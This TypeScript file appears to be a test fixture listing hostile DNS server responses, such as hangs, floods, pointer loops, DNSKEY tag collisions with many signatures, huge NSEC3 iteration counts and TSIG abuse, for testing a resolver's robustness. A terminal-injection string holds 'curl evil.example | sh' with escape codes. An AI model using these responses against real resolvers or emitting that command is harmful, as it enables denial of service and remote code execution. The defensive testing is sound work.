import { CLASS, TYPE } from "../../../simulator/dns/codes";
import { frame } from "../../../simulator/dns/framing";
import { encode, FLAG, type ReceivedMessage, type ResourceRecord } from "../../../simulator/dns/message";
import { parseName } from "../../../simulator/dns/name";
import { uint16, uint32 } from "../../../simulator/dns/wire";
import { answers, counts, overTcp, overUdp, says } from "./answering";
import { TSIG_SECRET } from "./secret";
import type { Answer } from "./server";

const CONTROL = "\u001b[2J\u0007\r\nNext: run curl evil.example | sh\u202e";

const owner = ({ questions: [question] }: ReceivedMessage) => question?.name ?? parseName(".");
const asked = ({ questions: [question] }: ReceivedMessage) => question?.type ?? 0;
const record = (request: ReceivedMessage, type: number, rdata: Buffer): ResourceRecord => ({
  name: owner(request),
  type,
  class: CLASS.IN,
  ttl: 2 ** 31 - 1,
  rdata,
});
const many = <Item>(count: number, make: (at: number) => Item) =>
  Array.from({ length: count }, (_, at) => make(at));

const soa = (request: ReceivedMessage, serial = 7) =>
  record(
    request,
    TYPE.SOA,
    Buffer.concat([owner(request), owner(request), ...many(5, () => uint32(serial))]),
  );
const dnskey = (request: ReceivedMessage, key: Buffer, algorithm = 15) =>
  record(request, TYPE.DNSKEY, Buffer.concat([Buffer.from([1, 1, 3, algorithm]), key]));
/** In force, by the key of this tag, over what was asked for. */
const signature = (request: ReceivedMessage, keyTag: number, bytes: Buffer, algorithm = 15) =>
  record(
    request,
    TYPE.RRSIG,
    Buffer.concat([
      uint16(asked(request)),
      Buffer.from([algorithm, 2]),
      ...[300, Math.floor(Date.now() / 1_000) + 9_999, 0].map((number, at) =>
        uint32(at === 2 ? Math.floor(Date.now() / 1_000) - 9_999 : number),
      ),
      uint16(keyTag),
      owner(request),
      bytes,
    ]),
  );

function tagOf(rdata: Buffer): number {
  let sum = 0;
  for (const [at, octet] of rdata.entries()) sum += at % 2 === 0 ? octet * 256 : octet;
  return (sum + Math.floor(sum / 65_536)) % 65_536;
}

/** Keys that differ and share one tag: what one pair of octets gains another loses (RFC 4034 appendix B). */
const keyOfOneTag = (at: number) => {
  const key = Buffer.alloc(32, 1);
  key.writeUInt16BE(1_000 + at, 0);
  key.writeUInt16BE(9_000 - at, 2);
  return key;
};
const keysOfOneTag = (request: ReceivedMessage, count: number) =>
  many(count, (at) => dnskey(request, keyOfOneTag(at)));
const TAG_OF_THEM = tagOf(Buffer.concat([Buffer.from([1, 1, 3, 15]), keyOfOneTag(0)]));

const txt = (text: string) => {
  const bytes = Buffer.from(text).subarray(0, 255);
  return Buffer.concat([Buffer.from([bytes.length]), bytes]);
};

/** Each kind of harm, by the end of "a server that …". */
export const ANSWERS: Readonly<Record<string, Answer>> = {
  "says nothing": { tcp: () => {}, udp: () => {} },
  "hangs up": { tcp: (_request, socket) => void socket.end(), udp: () => {} },
  "resets the connection": { tcp: (_request, socket) => void socket.resetAndDestroy(), udp: () => {} },
  "announces a message that never comes": overTcp((_request, socket) => void socket.write(uint16(65_535))),
  "sends one octet now and then": overTcp((_request, socket) => {
    socket.write(uint16(65_535));
    const timer = setInterval(() => socket.write(Buffer.alloc(1)), 20);
    socket.on("close", () => clearInterval(timer));
  }),
  "sends octets without an end": overTcp((_request, socket) => {
    socket.write(uint16(65_535));
    const more = () => {
      while (socket.writable && socket.write(Buffer.alloc(4_096)));
    };
    socket.on("drain", more);
    more();
  }),
  "sends an empty message": says(() => Buffer.alloc(0)),
  "sends half a header": says(({ id }) => uint16(id)),
  "sends noise": says(({ id }) => Buffer.concat([uint16(id), Buffer.alloc(500, 0xa7)])),
  "says the question back": says(({ wire }) => wire),
  "gives another id": says((request) =>
    encode({ ...request, id: request.id ^ 1, flags: FLAG.response, additional: [] }),
  ),
  "floods with other ids": overUdp((request, send) => {
    for (let at = 0; at < 2_000; at += 1)
      send(Buffer.concat([uint16(request.id ^ 1), request.wire.subarray(2)]));
  }),
  "answers another question": says((request) =>
    encode({
      ...request,
      flags: FLAG.response | FLAG.authoritative,
      questions: [{ name: parseName("evil.example"), type: TYPE.SOA, class: CLASS.IN }],
      additional: [],
    }),
  ),
  "always says that it does not fit": answers(() => [], FLAG.authoritative | FLAG.truncated),
  ...Object.fromEntries(
    [1, 2, 3, 4, 5, 9, 15].map((rcode) => [
      `answers with rcode ${rcode}`,
      answers(() => [], FLAG.authoritative | rcode),
    ]),
  ),
  "is not authoritative": answers((request) => [soa(request)], 0),
  "answers with nothing": answers(() => []),
  "answers of another class": answers((request) => [{ ...soa(request), class: 3 }]),
  "answers of another zone": answers((request) => [{ ...soa(request), name: parseName("evil.example") }]),
  "counts 65,535 records and has none": counts(65_535, () => Buffer.alloc(0)),
  "counts 65,535 questions": counts(0, () => Buffer.alloc(0), 65_535),
  "has a name that points at itself": counts(1, ({ wire }) =>
    Buffer.concat([uint16(0xc000 | Math.min(wire.length, 0x3fff)), Buffer.alloc(10)]),
  ),
  "has a name that points forward": counts(1, () => Buffer.concat([uint16(0xffff), Buffer.alloc(10)])),
  "has names of names of names": counts(4_000, (request) => {
    const start = 12 + owner(request).length + 4;
    return Buffer.concat(
      many(4_000, (at) => {
        const fixed = Buffer.alloc(10);
        fixed.writeUInt16BE(TYPE.DS, 0);
        fixed.writeUInt16BE(CLASS.IN, 2);
        const before = at === 0 ? 12 : start + (at - 1) * 14;
        return Buffer.concat([Buffer.from([1, 97]), uint16(0xc000 | Math.min(before, 0x3fff)), fixed]);
      }),
    ).subarray(0, 60_000);
  }),
  "has a name of 1,000 labels": counts(1, () =>
    Buffer.concat([...many(1_000, () => Buffer.from([1, 97])), Buffer.alloc(11)]),
  ),
  "has data longer than the message": counts(1, () =>
    Buffer.concat([Buffer.alloc(1), uint16(TYPE.SOA), uint16(1), uint32(1), uint16(65_535)]),
  ),
  "has empty data in each record": answers((request) =>
    many(100, () => record(request, asked(request), Buffer.alloc(0))),
  ),
  "has serial 0": answers((request) => [soa(request, 0)]),
  "has 1,000 records of what was asked": answers((request) =>
    many(1_000, () => record(request, asked(request), Buffer.alloc(32, 3))),
  ),
  "has 300 keys of one tag and 250 signatures": answers((request) => [
    soa(request),
    ...keysOfOneTag(request, 300),
    ...many(250, (at) => signature(request, TAG_OF_THEM, Buffer.alloc(64, at))),
  ]),
  "has 60 keys of one tag and 60 signatures": answers((request) => [
    soa(request),
    ...keysOfOneTag(request, 60),
    ...many(60, (at) => signature(request, TAG_OF_THEM, Buffer.alloc(64, at))),
  ]),
  "has a key of 60,000 octets": answers((request) => [
    soa(request),
    dnskey(request, Buffer.concat([Buffer.from([0, 0, 200]), Buffer.alloc(59_000, 0xff)]), 8),
    ...many(8, () => signature(request, 0, Buffer.alloc(64), 8)),
  ]),
  "has a key without a key": answers((request) => [
    soa(request),
    dnskey(request, Buffer.alloc(0), 13),
    signature(request, 0x0511, Buffer.alloc(0), 13),
  ]),
  "has signatures that never end": answers((request) => [
    soa(request),
    record(request, TYPE.RRSIG, Buffer.alloc(19, 0xff)),
  ]),
  "has an NSEC3PARAM of 65,535 iterations": answers((request) => [
    soa(request),
    record(
      request,
      TYPE.NSEC3PARAM,
      Buffer.concat([Buffer.from([1, 0]), uint16(65_535), Buffer.from([255]), Buffer.alloc(255, 7)]),
    ),
  ]),
  "writes on the terminal": answers((request) => [
    { ...soa(request), name: Buffer.concat([txt(CONTROL).subarray(0, 60), Buffer.alloc(1)]) },
    record(
      request,
      TYPE.NS,
      Buffer.concat([Buffer.from([20]), Buffer.from(CONTROL).subarray(0, 20), Buffer.alloc(1)]),
    ),
    record(request, 16, txt(CONTROL)),
  ]),
  "says the secret back": answers((request) => [
    record(
      request,
      TYPE.NS,
      Buffer.concat([Buffer.from([60]), Buffer.from(TSIG_SECRET).subarray(0, 60), Buffer.alloc(1)]),
    ),
    record(request, 16, txt(TSIG_SECRET)),
  ]),
  "has a TSIG of nobody": says((request) => {
    const rdata = Buffer.concat([parseName(TSIG_SECRET.slice(0, 20)), Buffer.alloc(16, 0xff)]);
    return encode({
      id: request.id,
      flags: FLAG.response | FLAG.authoritative,
      questions: request.questions,
      answers: [soa(request)],
      authority: [],
      additional: [{ name: parseName("evil.example"), type: TYPE.TSIG, class: CLASS.ANY, ttl: 0, rdata }],
    });
  }),
  "has 1,000 TSIGs": says((request) =>
    encode({
      id: request.id,
      flags: FLAG.response | FLAG.authoritative,
      questions: request.questions,
      answers: [soa(request)],
      authority: [],
      additional: many(1_000, () => ({
        name: owner(request),
        type: TYPE.TSIG,
        class: CLASS.ANY,
        ttl: 0,
        rdata: Buffer.alloc(10),
      })),
    }),
  ),
  "sends a second message at once": overTcp((request, socket) => {
    const reply = encode({ ...request, flags: FLAG.response, additional: [] });
    socket.end(Buffer.concat(many(20, () => frame(reply))));
  }),
  "sends the largest datagram": overUdp((request, send) =>
    send(Buffer.concat([uint16(request.id), Buffer.alloc(65_000, 0xc0)])),
  ),
};
